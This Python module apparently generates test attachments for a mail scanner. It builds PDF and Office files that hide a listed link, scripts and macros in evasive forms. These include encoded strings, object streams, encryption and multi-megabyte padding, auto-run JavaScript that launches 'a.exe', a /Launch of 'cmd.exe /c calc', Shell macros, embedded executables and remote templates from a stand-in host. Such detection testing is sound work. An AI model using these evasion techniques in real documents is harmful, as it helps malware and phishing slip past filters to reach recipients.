"""The listed link, a script or a macro inside PDF and Office documents, in every form that viewers resolve."""

import base64
import binascii
import zlib
from collections.abc import Iterator

from workshop.evasion.mail import with_file
from workshop.evasion.payloads import LISTED_URL, PHISHING_PAGE, PROGRAM, SCRIPTED, macro_document, vba_project, zip_of
from workshop.evasion.wrappers import compound

URL = LISTED_URL.encode()
_OCTAL = b"".join(b"\\%03o" % byte for byte in URL)
_SCRIPT = b'app.launchURL("' + URL + b'", true); this.exportDataObject({cName: "a.exe", nLaunch: 2});'
_PADDING = 9 * 1024 * 1024


class Pdf:
    """A PDF written object by object; the cross-reference table is valid, so that every viewer opens it."""

    def __init__(self, header: bytes = b"%PDF-1.7\n") -> None:
        self.out = bytearray(header)
        self.offsets: dict[int, int] = {}

    def add(self, number: int, body: bytes) -> None:
        self.offsets[number] = len(self.out)
        self.out += b"%d 0 obj\n" % number + body + b"\nendobj\n"

    def stream(self, number: int, content: bytes, entries: bytes = b"") -> None:
        self.add(number, b"<< /Length %d %s >>\nstream\n" % (len(content), entries) + content + b"\nendstream")

    def finish(self, trailer: bytes = b"") -> bytes:
        start = len(self.out)
        size = max(self.offsets) + 1
        self.out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            at = self.offsets.get(number)
            self.out += b"%010d 00000 n \n" % at if at is not None else b"0000000000 65535 f \n"
        self.out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)
        return bytes(self.out)


def pdf(annotation: bytes = b"", root: bytes = b"", more: dict[int, bytes] | None = None, pages: int = 1) -> bytes:
    """Return a PDF with this annotation on its last page; `root` goes into the catalogue, `more` are objects."""
    document = Pdf()
    kids = b" ".join(b"%d 0 R" % (100 + number) for number in range(pages))
    document.add(1, b"<< /Type /Catalog /Pages 2 0 R " + root + b" >>")
    document.add(2, b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages)
    for number in range(pages):
        last = b"/Annots [ " + annotation + b" ]" if annotation and number == pages - 1 else b""
        document.add(100 + number, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + last + b" >>")
    for number, body in (more or {}).items():
        document.add(number, body)
    return document.finish()


def link(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [10 10 190 190] /Border [0 0 0] " + action + b" >>"


def uri(string: bytes) -> bytes:
    return link(b"/A << /S /URI /URI " + string + b" >>")


def _streamed(content: bytes, entries: bytes) -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(content), entries) + content + b"\nendstream"


def object_stream(body: bytes, pad: int = 0, filters: bytes = b"/FlateDecode", name: bytes = b"/ObjStm") -> bytes:
    """Return a PDF 1.5 with a cross-reference stream and the annotation in an object stream."""
    padding = b"(" + b"x" * pad + b")" if pad else b"null"
    inner = padding + b" " + body
    index = b"21 0 22 %d " % (len(padding) + 1)
    packed = zlib.compress(index + inner)
    if b"ASCIIHex" in filters:
        packed = binascii.hexlify(packed) + b">"
    if b"ASCII85" in filters:
        packed = base64.a85encode(packed) + b"~>"
    document = Pdf(b"%PDF-1.5\n")
    document.add(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    document.add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    document.add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [22 0 R] >>")
    entries = b"/Type " + name + b" /N 2 /First %d /Filter [%s]" % (len(index), filters)
    document.stream(20, packed, entries)
    start = len(document.out)
    rows = b"\0\0\0\0\0\0"
    for number in range(1, 24):
        if number in document.offsets:
            rows += b"\x01" + document.offsets[number].to_bytes(4) + b"\0"
        elif number in (21, 22):
            rows += b"\x02" + (20).to_bytes(4) + bytes((number - 21,))
        elif number == 23:
            rows += b"\x01" + start.to_bytes(4) + b"\0"
        else:
            rows += b"\0\0\0\0\0\0"
    document.stream(23, rows, b"/Type /XRef /W [1 4 1] /Size 24 /Root 1 0 R")
    return bytes(document.out) + b"startxref\n%d\n%%%%EOF\n" % start


_PASSWORD_PADDING = bytes.fromhex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a")


def _rc4(key: bytes, data: bytes) -> bytes:
    state = list(range(256))
    j = 0
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) % 256
        state[i], state[j] = state[j], state[i]
    out, i, j = bytearray(), 0, 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) % 256])
    return bytes(out)


def encrypted_pdf(user: bytes = b"") -> bytes:
    """Return a PDF in 40-bit encryption (ISO 32000-1, 7.6.3); without a user password every viewer opens it."""
    import hashlib  # noqa: PLC0415

    padded = (user + _PASSWORD_PADDING)[:32]
    owner = _rc4(hashlib.md5(_PASSWORD_PADDING).digest()[:5], padded)
    identifier = b"0123456789abcdef"
    key = hashlib.md5(padded + owner + (0xFFFFFFFC).to_bytes(4, "little") + identifier).digest()[:5]
    check = _rc4(key, _PASSWORD_PADDING)
    sealed = _rc4(hashlib.md5(key + (4).to_bytes(3, "little") + b"\0\0").digest()[:10], URL)
    document = Pdf(b"%PDF-1.4\n")
    document.add(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    document.add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    document.add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>")
    document.add(4, uri(b"<" + binascii.hexlify(sealed) + b">"))
    document.add(
        5,
        b"<< /Filter /Standard /V 1 /R 2 /P -4 /O <%s> /U <%s> >>" % (binascii.hexlify(owner), binascii.hexlify(check)),
    )
    twice = b"<" + binascii.hexlify(identifier) + b">"
    return document.finish(b"/Encrypt 5 0 R /ID [" + twice + twice + b"]")


def _attached(name: bytes, content: bytes) -> bytes:
    names = b"/Names << /EmbeddedFiles << /Names [ (" + name + b") 10 0 R ] >> >>"
    files = {
        10: b"<< /Type /Filespec /F (" + name + b") /UF (" + name + b") /EF << /F 11 0 R >> >>",
        11: _streamed(zlib.compress(content), b"/Type /EmbeddedFile /Filter /FlateDecode"),
    }
    return pdf(root=names, more=files)


def _text_page(text: bytes) -> bytes:
    document = Pdf()
    document.add(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    document.add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    fonts = b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
    document.add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 200] /Contents 4 0 R " + fonts + b" >>")
    document.stream(4, zlib.compress(b"BT /F1 12 Tf 20 100 Td (" + text + b") Tj ET"), b"/Filter /FlateDecode")
    return document.finish()


def pdf_documents() -> dict[str, bytes]:
    opens = b"/OpenAction << /S /JavaScript /JS "
    big = {50 + number: b"(" + b"x" * (1024 * 1024) + b")" for number in range(9)}
    bigger = {50 + number: b"(" + b"x" * (1024 * 1024) + b")" for number in range(22)}
    return {
        "link": pdf(uri(b"(" + URL + b")")),
        "link in hexadecimal": pdf(uri(b"<" + binascii.hexlify(URL) + b">")),
        "link in hexadecimal with blanks": pdf(uri(b"<" + b" ".join(b"%02x" % byte for byte in URL) + b">")),
        "link in octal": pdf(uri(b"(" + _OCTAL + b")")),
        "link with parentheses": pdf(uri(b"(" + URL + b"&a=(b(c)d)" + b")")),
        "link over lines": pdf(uri(b"(" + URL[:12] + b"\\\n" + URL[12:] + b")")),
        "link in UTF-16": pdf(uri(b"<feff" + binascii.hexlify(URL.decode().encode("utf-16-be")) + b">")),
        "link as an indirect string": pdf(uri(b"30 0 R"), more={30: b"(" + URL + b")"}),
        "link as an indirect action": pdf(link(b"/A 30 0 R"), more={30: b"<< /S /URI /URI (" + URL + b") >>"}),
        "link behind a comment": pdf(uri(b"% (https://company.example)\n(" + URL + b")")),
        "link with escaped names": pdf(link(b"/A << /S /U#52I /#55RI (" + URL + b") >>")),
        "link of a chain": pdf(link(b"/A << /S /GoTo /D [100 0 R /Fit] /Next << /S /URI /URI (" + URL + b") >> >>")),
        "link of an additional action": pdf(link(b"/AA << /U << /S /URI /URI (" + URL + b") >> >>")),
        "link at opening": pdf(root=b"/OpenAction << /S /URI /URI (" + URL + b") >>"),
        "link of a form": pdf(link(b"/A << /S /SubmitForm /F << /FS /URL /F (" + URL + b") >> >>")),
        "link to another document": pdf(link(b"/A << /S /GoToR /F (" + URL + b") /D [0 /Fit] >>")),
        "link on a base": pdf(link(b"/A << /S /URI /URI (verify?u=bob) >>"), root=b"/URI << /Base (https://listed-link.example.com/) >>"),
        "link on page 40": pdf(uri(b"(" + URL + b")"), pages=40),
        "link on page 400": pdf(uri(b"(" + URL + b")"), pages=400),
        "link behind 300 links": pdf(b" ".join([*(uri(b"(https://host%d.example/)" % n) for n in range(300)), uri(b"(" + URL + b")")])),
        "link behind 9 MiB": pdf(uri(b"40 0 R"), more={**big, 40: b"(" + URL + b")"}),
        "link behind 22 MiB": pdf(uri(b"40 0 R"), more={**bigger, 40: b"(" + URL + b")"}),
        "link as text": _text_page(URL),
        "object stream": object_stream(uri(b"(" + URL + b")")),
        "object stream of 9 MiB": object_stream(uri(b"(" + URL + b")"), pad=_PADDING),
        "object stream in hexadecimal": object_stream(uri(b"(" + URL + b")"), filters=b"/ASCIIHexDecode /FlateDecode"),
        "object stream in base 85": object_stream(uri(b"(" + URL + b")"), filters=b"/ASCII85Decode /FlateDecode"),
        "object stream with an escaped name": object_stream(uri(b"(" + URL + b")"), name=b"/Obj#53tm"),
        "encrypted without a password": encrypted_pdf(),
        "encrypted": encrypted_pdf(b"secret"),
        "behind bytes": b"\n" * 900 + pdf(uri(b"(" + URL + b")")),
        "old header": pdf(uri(b"(" + URL + b")")).replace(b"%PDF-1.7", b"%PDF-9.9"),
        "without a table": pdf(uri(b"(" + URL + b")")).partition(b"xref\n")[0],
        "script": pdf(root=opens + b"(" + _SCRIPT.replace(b"(", b"\\(").replace(b")", b"\\)") + b") >>"),
        "script in hexadecimal": pdf(root=opens + b"<" + binascii.hexlify(_SCRIPT) + b"> >>"),
        "script in a stream": pdf(root=opens + b"30 0 R >>", more={30: _streamed(zlib.compress(_SCRIPT), b"/Filter /FlateDecode")}),
        "script in a hexadecimal stream": pdf(
            root=opens + b"30 0 R >>", more={30: _streamed(binascii.hexlify(_SCRIPT) + b">", b"/Filter /ASCIIHexDecode")}
        ),
        "script in a base 85 stream": pdf(
            root=opens + b"30 0 R >>",
            more={30: _streamed(base64.a85encode(zlib.compress(_SCRIPT)) + b"~>", b"/Filter [/ASCII85Decode /FlateDecode]")},
        ),
        "script of the document": pdf(
            root=b"/Names << /JavaScript << /Names [ (a) 30 0 R ] >> >>", more={30: b"<< /S /JavaScript /JS 31 0 R >>", 31: _streamed(_SCRIPT, b"")}
        ),
        "script behind 9 MiB": pdf(root=opens + b"90 0 R >>", more={**big, 90: _streamed(_SCRIPT, b"")}),
        "script behind 22 MiB": pdf(root=opens + b"90 0 R >>", more={**bigger, 90: _streamed(_SCRIPT, b"")}),
        "launch": pdf(root=b"/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        "attached program": _attached(b"setup.exe", PROGRAM.content),
        "attached script": _attached(b"invoice.js", SCRIPTED.content),
        "attached page": _attached(b"invoice.html", PHISHING_PAGE),
    }  # fmt: skip


_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx(files: dict[str, bytes] | None = None, relation: str = "", first: dict[str, bytes] | None = None) -> bytes:
    """Return a Word document with further members and one more relationship."""
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/octet-stream"/>'
        "</Types>"
    )
    root = f'<Relationships xmlns="{_RELATIONS}"><Relationship Id="r1" Type="{_OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>'
    inner = f'<Relationships xmlns="{_RELATIONS}">{relation}</Relationships>'
    body = b"<w:document xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'><w:body/></w:document>"
    return zip_of(
        {
            "[Content_Types].xml": types.encode(),
            **(first or {}),
            "_rels/.rels": root.encode(),
            "word/document.xml": body,
            "word/_rels/document.xml.rels": inner.encode(),
            **(files or {}),
        }
    )


def _relation(kind: str, target: str) -> str:
    return f'<Relationship Id="r9" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'


def _package(name: str, content: bytes) -> bytes:
    """Return an OLE package as Word embeds a file."""
    plain = name.encode() + b"\0"
    body = (
        b"\x02\x00" + plain + b"C:\\" + plain + b"\0\0\3\0" + (len(plain) + 3).to_bytes(4, "little") + b"C:\\" + plain
    )
    body += len(content).to_bytes(4, "little") + content
    return compound({"\x01Ole10Native": len(body).to_bytes(4, "little") + body})


def office_documents() -> dict[str, tuple[str, bytes]]:
    note = dict.fromkeys((f"word/media/note{n}.txt" for n in range(1_100)), b"note")
    link_of = _relation("hyperlink", LISTED_URL)
    spread = f"<x>{' ' * (5 * 1024 * 1024)}</x>"
    return {
        "macro": ("a.docm", macro_document()),
        "macro named .doc": ("a.doc", macro_document()),
        "macro named .docx": ("a.docx", macro_document()),
        "macro under media": ("a.docm", macro_document("word/media/vbaProject.bin")),
        "macro under another name": ("a.docm", macro_document("word/settings.bin")),
        "macro behind 1,000 members": ("a.docm", docx({**note, "word/vbaProject.bin": vba_project()})),
        "macro behind 33 MiB": ("a.docm", docx({"word/vbaProject.bin": vba_project()}, first={"word/a.xml": b"<a/>" * (33 << 18)})),
        "macro in an old document": ("a.doc", compound({"WordDocument": b"\xec\xa5" + b"\0" * 600, "Macros/VBA/dir": b"\1" * 40, "Macros/VBA/_VBA_PROJECT": b"\xcc\x61" + b"\0" * 60, "Macros/VBA/ThisDocument": b"Sub AutoOpen()"})),
        "macro in an old workbook": ("a.xls", compound({"Workbook": b"\x09\x08\x10\0" + b"\0" * 600, "_VBA_PROJECT_CUR/VBA/dir": b"\1" * 40, "_VBA_PROJECT_CUR/VBA/_VBA_PROJECT": b"\xcc\x61" + b"\0" * 60})),
        "link": ("a.docx", docx(relation=link_of)),
        "link in a header": ("a.docx", docx({"word/header1.xml": b"<a/>", "word/_rels/header1.xml.rels": f'<Relationships xmlns="{_RELATIONS}">{link_of}</Relationships>'.encode()})),
        "link in relations of 5 MiB": ("a.docx", docx(relation=f"<!--{' ' * (5 * 1024 * 1024)}-->{link_of}")),
        "link behind 1,000 members": ("a.docx", docx(relation=link_of, first=note)),
        "link as a field": ("a.docx", docx({"word/footer1.xml": f'<w:instrText xmlns:w="w"> HYPERLINK "{LISTED_URL}" </w:instrText>'.encode()})),
        "link in a workbook": ("a.xlsx", zip_of({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>", "xl/worksheets/_rels/sheet1.xml.rels": f'<Relationships xmlns="{_RELATIONS}">{link_of}</Relationships>'.encode(), "a.xml": spread.encode()})),
        "link in slides": ("a.pptx", zip_of({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>", "ppt/slides/_rels/slide1.xml.rels": f'<Relationships xmlns="{_RELATIONS}">{link_of}</Relationships>'.encode()})),
        "template from outside": ("a.docx", docx({"word/_rels/settings.xml.rels": f'<Relationships xmlns="{_RELATIONS}">{_relation("attachedTemplate", "https://files.stranger.example/a.dotm")}</Relationships>'.encode()})),
        "object from outside": ("a.docx", docx(relation=_relation("oleObject", "https://files.stranger.example/a.rtf!"))),
        "embedded program": ("a.docx", docx({"word/embeddings/oleObject1.bin": _package("setup.exe", PROGRAM.content)})),
        "embedded script": ("a.docx", docx({"word/embeddings/oleObject1.bin": _package("invoice.js", SCRIPTED.content)})),
        "embedded macro document": ("a.docx", docx({"word/embeddings/a.docm": macro_document()})),
        "odt macro": ("a.odt", zip_of({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>", "Basic/Standard/Module1.xml": b"Sub Main\nShell(\"calc\")\nEnd Sub"})),
        "odt link": ("a.odt", zip_of({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": f'<text:a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{LISTED_URL}">m</text:a>'.encode()})),
        "link of a shape": ("a.docx", docx({"word/header1.xml": f'<v:rect xmlns:v="v" href="{LISTED_URL}"/>'.encode()})),
        "xps link": ("a.xps", zip_of({"[Content_Types].xml": b"<Types/>", "Documents/1/Pages/1.fpage": f'<Path FixedPage.NavigateUri="{LISTED_URL}"/>'.encode()})),
        "visio link": ("a.vsdx", zip_of({"[Content_Types].xml": b"<Types/>", "visio/pages/page1.xml": f'<Cell N="Address" V="{LISTED_URL}"/>'.encode()})),
        "excel 2003 link": ("a.xls", f'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook><Cell ss:HRef="{LISTED_URL}"/></Workbook>'.encode()),
        "word 2003 link": ("a.doc", f'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument><w:hlink w:dest="{LISTED_URL}"/></w:wordDocument>'.encode()),
        "rtf object": ("a.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata " + binascii.hexlify(b"\x01\x05\0\0\x02\0\0\0\x08\0\0\0Package\0" + b"\0" * 8 + _package("setup.exe", PROGRAM.content)) + b"}}}"),
        "rtf named .doc with a link": ("a.doc", b'{\\rtf1{\\field{\\*\\fldinst{HYPERLINK "' + URL + b'"}}{\\fldrslt m}}}'),
        "encrypted": ("a.docx", compound({"EncryptedPackage": b"\0" * 5_000, "EncryptionInfo": b"\4\0\4\0\x40\0\0\0<encryption/>" + b"\0" * 300})),
    }  # fmt: skip


def document_cases() -> Iterator[tuple[str, bytes]]:
    """Yield the documents as attachments, and some of them in an archive too."""
    for number, (name, content) in enumerate(pdf_documents().items()):
        yield f"pdf: {name}", with_file("minutes.pdf", content, "application/pdf")
        if len(content) < 100_000 and number % 3 == 0:
            yield f"pdf: {name}, in a zip", with_file("a.zip", zip_of({"minutes.pdf": content}), "application/zip")
    for number, (name, (file, content)) in enumerate(office_documents().items()):
        yield f"office: {name}", with_file(file, content, "application/octet-stream")
        if number % 3 == 0:
            yield f"office: {name}, in a zip", with_file("a.zip", zip_of({file: content}), "application/zip")
